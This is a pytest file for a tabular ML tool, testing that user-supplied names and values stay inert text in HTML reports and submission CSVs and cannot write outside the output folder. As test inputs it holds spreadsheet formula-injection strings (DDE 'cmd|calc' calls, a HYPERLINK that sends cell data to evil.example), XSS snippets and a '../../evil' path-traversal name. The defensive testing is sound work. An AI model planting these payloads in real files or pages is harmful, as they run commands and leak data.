"""What a table holds is data: names, classes, values and file names become no markup in the report, and change in no file."""

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from sklearn.dummy import DummyClassifier
from tests.web import payloads

from firsthand.tabular import fit_table, pipeline, predict_saved, read_table
from firsthand.tabular.modelling import model_comparison

AT_A_TIME = 20
# Half of a pair of code units is no text that pandas holds.
TEXTS = [text.encode("utf-8", "replace").decode() for text in payloads.ALL]
GROUPS = [TEXTS[start : start + AT_A_TIME] for start in range(0, len(TEXTS), AT_A_TIME)]
FORMULAS = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "\t=1+1",
]
# All that a report is made of; no element among them loads or runs anything.
ELEMENTS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "main",
        "header",
        "section",
        "footer",
        "h1",
        "h2",
        "p",
        "b",
        "ul",
        "li",
        "div",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "figure",
        "figcaption",
        "svg",
        "g",
        "path",
        "text",
        "tspan",
        "defs",
        "clippath",
        "rect",
        "use",
    ]
)
ADDRESSES = ("href", "xlink:href", "src", "action", "formaction", "data", "poster", "srcset", "background")


class Reader(HTMLParser):
    """Notes every element, attribute and text of a page."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.elements, self.attributes, self.texts = set(), [], []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.texts.append(data)

    def handle_comment(self, data):
        self.elements.add("comment")

    def unknown_decl(self, data):
        self.elements.add("declaration")

    def handle_pi(self, data):
        self.elements.add("instruction")


def check_harmless(page):
    read = Reader(page)
    assert read.elements <= ELEMENTS, read.elements - ELEMENTS
    for tag, name, value in read.attributes:
        assert re.fullmatch(r"[a-z][a-zA-Z:_-]*\d?", name), (tag, name)
        assert not name.startswith("on"), (tag, name, value)
        assert name not in ADDRESSES or value.startswith("#"), (tag, name, value)
        if name == "style":
            assert not re.search(r"url\((?!['\"]?#)|expression|@import|\\", value), value
    styles = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    assert page.count("<style") == len(styles) == 1
    assert not re.search(r"@import|url\(|evil\.example", styles[0])
    return read


def table_of(texts):
    """Columns and classes by these names, and a category with these values."""
    random = np.random.default_rng(0)
    names = list(dict.fromkeys(texts))
    at = np.arange(5 * len(names)) % len(names)
    columns = {name: (at == k) + random.normal(0, 0.3, len(at)) for k, name in enumerate(names)}
    return pd.DataFrame(
        {**columns, "kind": np.array(names, dtype=object)[at[::-1]], "y": np.array(names, dtype=object)[at]}
    )


def test_the_check_finds_what_would_do_harm():
    for text in (
        "<script>alert(1)</script>",
        "<b onclick=x>y</b>",
        '<use href="//evil.example/x"/>',
        "<p style='background:url(//x)'>",
    ):
        with pytest.raises(AssertionError):
            check_harmless(f"<style></style>{text}")


@pytest.fixture
def bare(monkeypatch):
    """The baseline alone: here it matters what is written, not how well it is predicted."""

    def one(task, n_rows, n_classes=2, random_state=0):
        return {"majority class": DummyClassifier(strategy="prior")}

    monkeypatch.setattr(model_comparison, "candidates", one)
    monkeypatch.setattr(pipeline, "candidates", one)


@pytest.mark.parametrize("number", range(len(GROUPS)))
def test_names_classes_and_values_stay_text_in_the_report(number, bare):
    texts = GROUPS[number]
    page = fit_table(table_of(texts), "y", table_of(texts).drop(columns="y")).html
    read = check_harmless(page)
    shown = " ".join(" ".join(read.texts).split())
    found = [text for text in texts if " ".join(text.split()) in shown]
    assert len(found) > 0.8 * len(texts), set(texts) - set(found)  # they are shown, and not taken out


@pytest.mark.parametrize("text", [*payloads.NAMES, *payloads.HANDLERS[:4], *payloads.SNARES[-3:]])
def test_a_file_and_a_target_by_such_a_name(text, people, bare, tmp_path):
    path = tmp_path / (text.replace("/", "∕").replace("\0", "")[:80] + ".csv")
    target = " ".join(text.split()) or "y"
    people.rename(columns={"y": target}).to_csv(path, index=False)
    report = fit_table(path, target, path)
    check_harmless(report.html)
    assert report.submission.columns[1] == target


def test_predictions_and_submission_give_back_each_text_as_it_was(quick, tmp_path):
    for texts in (payloads.SNARES, payloads.NAMES, FORMULAS):
        own = [text for text in texts if text.isprintable() and text.strip() == text][:40]
        table = table_of(own)
        report = fit_table(table, "y", table.drop(columns="y"), out=tmp_path)
        written = list(csv.reader(io.StringIO((tmp_path / "submission.csv").read_text(encoding="utf-8"))))
        assert [row[1] for row in written[1:]] == report.submission["y"].tolist()
        assert {row[1] for row in written[1:]} == set(own)
        made = predict_saved(tmp_path, table.drop(columns="y"), probabilities=True).frame
        assert list(made.columns[2:]) == [f"probability of {text}" for text in sorted(own)]


def test_ids_that_are_formulas_stay_ids_and_are_warned_of(people, quick, tmp_path):
    """A mark before them would make other ids of them, which no competition knows; so they stay, and it is said."""
    ids = [f"=cmd|calc!A{k}" for k in range(len(people))]
    people = people.assign(id=ids)
    people.to_csv(tmp_path / "train.csv", index=False)
    report = fit_table(tmp_path / "train.csv", "y", tmp_path / "train.csv", out=tmp_path / "out")
    read = read_table(tmp_path / "out" / "submission.csv").frame
    assert read["id"].tolist() == ids
    message = (
        "120 texts in the predictions begin like a formula of a spreadsheet program, such as “=cmd|calc!A0”"
    )
    assert any(message in note for note in report.notes)
    assert any(message in note for note in predict_saved(tmp_path / "out", tmp_path / "train.csv").notes)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_class_that_is_a_formula_is_warned_of(text, people, quick):
    people = people.assign(y=people["y"].replace("yes", text))
    assert any(
        "1 text in the predictions begins like a formula" in note
        for note in fit_table(people, "y", people.drop(columns="y")).notes
    )


def test_negative_numbers_are_no_formulas(people, quick):
    people = people.assign(y=people["y"].map({"yes": "-1", "no": "+1"}))
    report = fit_table(people, "y", people.drop(columns="y"))
    assert not any("formula" in note for note in report.notes)


def test_names_are_in_the_page_but_not_in_the_folder(people, quick, tmp_path):
    fit_table(people.rename(columns={"x": "../../evil"}), "y", out=tmp_path / "out")
    assert {path.name for path in tmp_path.rglob("*")} == {"out", "report.html", "model.joblib", "model.json"}
    assert not Path(tmp_path.parent, "evil").exists()
